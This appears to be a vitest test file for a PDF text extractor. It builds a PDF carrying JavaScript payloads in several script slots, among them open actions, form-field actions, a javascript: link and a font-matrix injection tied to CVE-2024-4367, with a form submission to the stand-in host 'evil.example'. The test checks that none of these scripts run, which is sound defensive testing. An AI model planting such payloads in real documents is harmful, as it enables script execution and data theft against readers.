import { writeFile } from 'node:fs/promises'
import { join } from 'node:path'
import { expect, test } from 'vitest'
import { readPdf } from '../../../main/datasets/passages/pdf.ts'
import { temporaryFolder } from '../../support/temporary-folder.ts'

const script = 'globalThis.owned = 1; app.alert(1); this.submitForm("https://evil.example/")'

/** A PDF of one page of text with a script wherever the format has a place for one. */
function pdfWithScripts(): string {
  const action = `<< /S /JavaScript /JS (${script.replace(/[()]/g, '\\$&')}) >>`
  const text = 'BT /F1 12 Tf 72 700 Td (Roses are cut in March, and tulips are planted in autumn.) Tj ET'
  const objects = [
    `<< /Type /Catalog /Pages 2 0 R /OpenAction ${action} /AA << /WC ${action} >> /AcroForm << /Fields [6 0 R] >>
      /Names << /JavaScript << /Names [(a) ${action}] >> >> >>`,
    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R /Annots [6 0 R 7 0 R] /AA << /O ${action} >>
      /Resources << /Font << /F1 5 0 R >> >> >>`,
    `<< /Length ${text.length} >>\nstream\n${text}\nendstream`,
    // The matrix of a font was once compiled as JavaScript (CVE-2024-4367).
    `<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /FontMatrix [1 0 0 1 0 (0\\); ${script} //)] >>`,
    `<< /Type /Annot /Subtype /Widget /FT /Tx /T (field) /Rect [0 0 9 9] /V (x) /AA << /K ${action} /F ${action} /C ${action} >> >>`,
    `<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /URI /URI (javascript:${'globalThis.owned=1'}) >> >>`,
  ]
  let body = '%PDF-1.7\n'
  const places = objects.map((object, i) => {
    const at = body.length
    body += `${i + 1} 0 obj\n${object}\nendobj\n`
    return `${String(at).padStart(10, '0')} 00000 n \n`
  })
  const list = `xref\n0 ${objects.length + 1}\n0000000000 65535 f \n${places.join('')}`
  return `${body}${list}trailer\n<< /Size ${objects.length + 1} /Root 1 0 R >>\nstartxref\n${body.length}\n%%EOF\n`
}

test('no script of a PDF runs, wherever in it one stands', async () => {
  const path = join(await temporaryFolder(), 'scripts.pdf')
  await writeFile(path, pdfWithScripts(), 'latin1')
  const before = Object.keys(globalThis).sort()
  const texts: string[] = []
  for await (const part of readPdf(path, { signal: new AbortController().signal }))
    for await (const block of part.blocks) texts.push(JSON.stringify(block))
  expect(texts.join()).toContain('Roses are cut in March')
  expect(texts.join()).not.toContain('evil.example')
  expect(Reflect.has(globalThis, 'owned')).toBe(false)
  expect(Object.keys(globalThis).sort()).toEqual(expect.arrayContaining(before))
})
